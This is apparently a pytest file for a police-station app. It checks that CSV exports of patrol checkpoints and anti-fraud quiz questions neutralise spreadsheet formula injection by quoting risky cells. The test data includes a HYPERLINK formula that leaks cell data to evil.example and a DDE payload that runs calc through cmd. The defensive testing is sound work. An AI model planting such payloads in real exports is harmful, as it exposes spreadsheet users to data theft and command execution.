"""CSV exports: a cell a spreadsheet would run as a formula is written as text, everywhere."""

from __future__ import annotations

import csv
import io

from core import csv_export

MALICIOUS = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_the_writer_neutralises_every_formula_start_and_keeps_numbers():
    text = csv_export.to_csv(["a"], [[v] for v in ("=1+1", "+1+1", "-1+cmd|' /C calc'!A0",
                                                   "@SUM(A1)", "\tx", "\rx", "-5", "+3.5",
                                                   "plain", 7)])
    cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert cells == ["'=1+1", "'+1+1", "'-1+cmd|' /C calc'!A0", "'@SUM(A1)", "'\tx", "'\rx",
                     "-5", "+3.5", "plain", "7"]
    assert [csv_export.read_cell(c) for c in cells[:6]] == ["=1+1", "+1+1",
                                                           "-1+cmd|' /C calc'!A0",
                                                           "@SUM(A1)", "\tx", "\rx"]


def test_a_malicious_checkpoint_name_is_text_in_the_code_sheet(client, world):
    station = world.station("east", plugins=("patrol",))
    officer = world.person("officer", station=station, roles=["officer"])
    route = client.post("/api/v1/stations/east/patrol/routes", headers=officer.headers, json={
        "name": "Night round", "checkpoints": [{"name": MALICIOUS, "lat": 30.27,
                                               "lon": 120.15, "radius_m": 30}]})
    assert route.status_code == 201, route.json
    sheet = client.get(f"/api/v1/stations/east/patrol/routes/{route.json['id']}/code-sheet.csv",
                       headers=officer.headers)
    assert sheet.status_code == 200
    rows = list(csv.DictReader(io.StringIO(sheet.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0]["name"] == "'" + MALICIOUS


def test_a_malicious_question_is_text_in_the_export_and_comes_back_unchanged(client, world):
    station = world.station("east", plugins=("anti_fraud",))
    officer = world.person("officer", station=station, roles=["officer"])
    base = "/api/v1/stations/east/anti-fraud"
    made = client.post(f"{base}/questions", headers=officer.headers, json={
        "category": "order_brushing", "text": MALICIOUS, "choices": ["@right", "-wrong"],
        "correct": [0], "explanation": "+because"})
    assert made.status_code == 201, made.json
    export = client.get(f"{base}/questions/export?format=csv", headers=officer.headers)
    text = export.get_data(as_text=True).lstrip("\ufeff")
    row = next(csv.DictReader(io.StringIO(text, newline="")))
    assert row["text"] == "'" + MALICIOUS
    assert (row["choice_a"], row["choice_b"], row["explanation"]) == ("'@right", "'-wrong",
                                                                      "'+because")
    # The export imports back as it was: the quote is the export's, not the text's.
    again = client.post(f"{base}/questions/import", headers=officer.headers, data=text,
                        content_type="text/csv")
    assert again.status_code == 200, again.json
    listed = client.get(f"{base}/questions", headers=officer.headers).json
    assert len(listed) == 2  # the first had no key: the import added a copy
    assert {(q["text"], tuple(q["choices"])) for q in listed} == {(MALICIOUS,
                                                                    ("@right", "-wrong"))}
